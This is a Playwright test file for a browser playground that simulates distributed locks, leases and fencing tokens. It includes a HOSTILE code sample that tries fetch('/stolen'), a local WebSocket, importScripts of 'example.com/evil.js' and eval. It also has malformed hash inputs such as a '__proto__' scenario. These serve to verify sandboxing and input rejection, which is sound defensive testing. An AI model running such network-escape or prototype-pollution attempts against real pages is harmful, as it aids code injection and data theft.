import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { pathToFileURL } from 'node:url'
import { gzipSync } from 'node:zlib'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import type * as Playground from '../../../scripts/playground.mjs'
import { serveFolder, startChromium, type StaticServer } from '../../support/chromium.js'
import { until } from '../../support/until.js'

/** What a reader loads for the whole page. */
const MOST_GZIPPED = 250_000
/** Shared machines are slow. */
const PATIENCE = 30_000

interface Said {
  readonly at: number
  readonly process: string
  readonly text: string
}

const hashOf = (state: object): string => `#${Buffer.from(JSON.stringify(state)).toString('base64url')}`

/** What happened, oldest first. */
const logOf = async (page: Page): Promise<Said[]> => {
  const lines = await page.evaluate<[string, string, string][]>(
    `[...document.querySelectorAll('.log li')].map((line) => [...line.children].map((part) => part.textContent))`,
  )
  return lines.map(([at, process, text]) => ({ at: parseFloat(at), process, text })).reverse()
}

const acquirersOf = async (page: Page): Promise<string[]> =>
  (await logOf(page)).filter(({ text }) => text === 'acquired').map(({ process }) => process)

const HOLDS_LONG = "await client.lock('report').using(() => sleep(600_000))"

const HOSTILE = `
const ways = [
  () => fetch('/stolen'),
  () => new Promise((done, refused) => { const socket = new WebSocket('ws://127.0.0.1:9/'); socket.onopen = done; socket.onerror = refused }),
  () => importScripts('https://example.com/evil.js'),
  () => eval('1'),
]
const results = await Promise.allSettled(ways.map(async (way) => way()))
say('refused ' + results.filter(({ status }) => status === 'rejected').length + ' of ' + results.length)
`

const open = await startChromium()

void describe('the playground', { concurrency: 3, skip: typeof open === 'string' ? open : false }, () => {
  const browser = open as Browser
  let [folder, server]: [string, StaticServer | undefined] = ['', undefined]
  const problems: string[] = []

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'holdfast-playground-'))
    // The one beside the sources, which it reads.
    const script = pathToFileURL(resolve('scripts/playground.mjs')).href
    await ((await import(script)) as typeof Playground).buildPlayground(folder)
    server = await serveFolder(folder)
  })

  after(async () => {
    await browser.close()
    await server?.stop()
    await rm(folder, { recursive: true })
    assert.deepEqual(problems, [])
  })

  /** A page of its own, closed at the end. */
  const on =
    (state: object | string, body: (page: Page) => Promise<void>, options: BrowserContextOptions = {}) =>
    async (): Promise<void> => {
      const context = await browser.newContext(options)
      const page = await context.newPage()
      page.setDefaultTimeout(PATIENCE)
      page.on('pageerror', (error) => problems.push(error.message))
      try {
        await page.goto(`${server?.url ?? ''}/${typeof state === 'string' ? state : hashOf(state)}`)
        await page.getByRole('heading', { name: 'holdfast playground' }).waitFor()
        await body(page)
      } finally {
        await context.close()
      }
    }

  const run = (page: Page): Promise<void> => page.getByRole('button', { name: 'Run', exact: true }).click()

  /** Does something to the process that holds the lock. */
  const toHolder = async (page: Page, deed: 'Kill' | 'Pause'): Promise<string> => {
    const holder = page.locator('.deed[data-state="holding"]').first()
    const name = ((await holder.getAttribute('aria-label')) ?? '').replace('Process ', '')
    await page.getByRole('button', { name: `${deed} ${name}` }).click()
    return name
  }

  void it(`has at most ${MOST_GZIPPED / 1000} kB, gzipped`, () => {
    const sizes = readdirSync(folder).map((file) => gzipSync(readFileSync(join(folder, file)), { level: 9 }).length)
    const sum = sizes.reduce((one, other) => one + other)
    assert.ok(sum <= MOST_GZIPPED, `${sum} bytes`)
  })

  void it(
    'a lock moves between processes; Run answers to the keyboard',
    on({ scenario: 'lock' }, async (page) => {
      await page.getByRole('button', { name: 'Run', exact: true }).focus()
      await page.keyboard.press('Enter')
      await until(async () => new Set(await acquirersOf(page)).size >= 3, PATIENCE)
      const held = (await logOf(page)).filter(({ text }) => text === 'acquired' || text === 'released')
      held.forEach(({ text }, i) => assert.equal(text, i % 2 === 0 ? 'acquired' : 'released'))
    }),
  )

  void it(
    'the next process goes on after the lease of one that was killed',
    on({ scenario: 'lock', lease: 2000, code: ['x', 'y'].map(() => HOLDS_LONG), processes: 2 }, async (page) => {
      await run(page)
      const killed = await toHolder(page, 'Kill')
      await until(async () => (await acquirersOf(page)).some((name) => name !== killed), PATIENCE)
      const log = await logOf(page)
      const death = log.find(({ text }) => text === 'killed')
      const next = log.find(({ process, text }) => process !== killed && text === 'acquired')
      // Renewed at the latest a third of the lease before.
      assert.ok((next?.at ?? 0) - (death?.at ?? NaN) > 0.9, JSON.stringify(log))
    }),
  )

  void it(
    'goes on by polling while all messages are lost',
    on({ scenario: 'fair', drop: 100 }, async (page) => {
      await run(page)
      await until(async () => new Set(await acquirersOf(page)).size >= 3, PATIENCE)
    }),
  )

  void it(
    'the fencing token refuses a process that was paused beyond its lease',
    on({ scenario: 'fence', lease: 1500, pause: 6000, processes: 2 }, async (page) => {
      await run(page)
      const paused = await toHolder(page, 'Pause')
      await until(async () => (await logOf(page)).some(({ text }) => text.startsWith('refused')), PATIENCE)
      const log = await logOf(page)
      const late = log.find(({ text }) => text.startsWith('refused'))
      assert.equal(late?.process, paused)
      assert.ok(log.some(({ process, text }) => process !== paused && text.startsWith('written')))
    }),
  )

  void it(
    'is smooth with four processes',
    on({ scenario: 'lock' }, async (page) => {
      await run(page)
      await until(async () => new Set(await acquirersOf(page)).size >= 2, PATIENCE)
      const frames = await page.evaluate<number[]>(`new Promise((done) => {
        const frames = []
        const look = (before) => requestAnimationFrame((now) => {
          frames.push(now - before)
          if (frames.length < 60) look(now)
          else done(frames.sort((one, other) => one - other))
        })
        requestAnimationFrame(look)
      })`)
      // Of all, the middle: other tests use the same processors.
      assert.ok((frames[30] ?? Infinity) < 50, frames.map(Math.round).join())
    }),
  )

  for (const scenario of ['semaphore', 'election'])
    void it(
      `shows the ${scenario}`,
      on({ scenario }, async (page) => {
        await run(page)
        await until(async () => (await acquirersOf(page)).length >= (scenario === 'semaphore' ? 4 : 1), PATIENCE)
        assert.deepEqual(
          (await logOf(page)).filter(({ text }) => /Error|lost/.test(text)),
          [],
        )
      }),
    )

  void it(
    'a link restores the state',
    on('', async (page) => {
      await page.getByRole('button', { name: 'Fair lock' }).click()
      await page.getByRole('slider', { name: 'Network delay' }).fill('120')
      await page.getByRole('button', { name: 'B', exact: true }).click()
      await page.getByLabel('Code of process B').fill("say('ünïcode </script>')")
      const other = await page.context().newPage()
      await other.goto(page.url())
      await other.getByRole('button', { name: 'B', exact: true }).click()
      assert.equal(await other.getByLabel('Code of process B').inputValue(), "say('ünïcode </script>')")
      assert.equal(await other.getByRole('slider', { name: 'Network delay' }).inputValue(), '120')
      assert.equal(await other.getByRole('button', { name: 'Fair lock' }).getAttribute('aria-pressed'), 'true')
      assert.equal(await other.getByRole('note').isVisible(), true)
    }),
  )

  void it(
    'code of a link does not run before Run, and then has no network',
    on({ scenario: 'lock', processes: 1, code: [HOSTILE] }, async (page) => {
      const requests: string[] = []
      page.on('request', (request) => requests.push(request.url()))
      assert.match(await page.getByRole('note').innerText(), /Nothing has run yet/)
      // Long enough for whatever would begin by itself: the page has drawn twice.
      await page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))')
      assert.equal(page.workers().length, 0)
      await run(page)
      await until(async () => (await logOf(page)).some(({ text }) => text === 'refused 4 of 4'), PATIENCE)
      assert.deepEqual(
        requests.filter((url) => !url.startsWith('blob:')),
        [],
      )
    }),
  )

  const STRANGE = [
    '#',
    '#%%%',
    `#${'A'.repeat(300_000)}`,
    hashOf([1, 2]),
    hashOf({ scenario: '__proto__', processes: 1e9, delay: -1, drop: 'x', lease: null, code: { length: 5 } }),
    hashOf({ scenario: 'toString', code: [1, {}, 'x'.repeat(20_000)] }),
  ]
  for (const [i, hash] of STRANGE.entries())
    void it(
      `a hash that makes no sense counts as none: ${i + 1}`,
      on(hash, async (page) => {
        assert.equal(await page.getByRole('slider', { name: 'Processes' }).inputValue(), '4')
        assert.equal(await page.getByRole('slider', { name: 'Lease' }).inputValue(), '3000')
        assert.equal(await page.getByRole('note').count(), 0)
        assert.equal(page.workers().length, 0)
      }),
    )

  for (const colorScheme of ['light', 'dark'] as const)
    void it(
      `is accessible and fits a phone, ${colorScheme}`,
      on(
        { scenario: 'fence', code: ['say(1)'] },
        async (page) => {
          const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
          const check = async (): Promise<void> => {
            await page.evaluate(axe)
            const found = await page.evaluate<Violation[]>('axe.run().then(({ violations }) => violations)')
            const grave = found.filter(({ impact }) => impact === 'serious' || impact === 'critical')
            assert.deepEqual(
              grave.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ''}`),
              [],
            )
          }
          await check()
          await run(page)
          await until(async () => (await acquirersOf(page)).length > 0, PATIENCE)
          await page.getByRole('button', { name: 'Kill B' }).click()
          await check()
          assert.equal(await page.evaluate('document.documentElement.scrollWidth'), 390)
        },
        { colorScheme, viewport: { width: 390, height: 844 } },
      ),
    )
})

interface Violation {
  readonly id: string
  readonly impact?: string
  readonly nodes: readonly { readonly html: string }[]
}
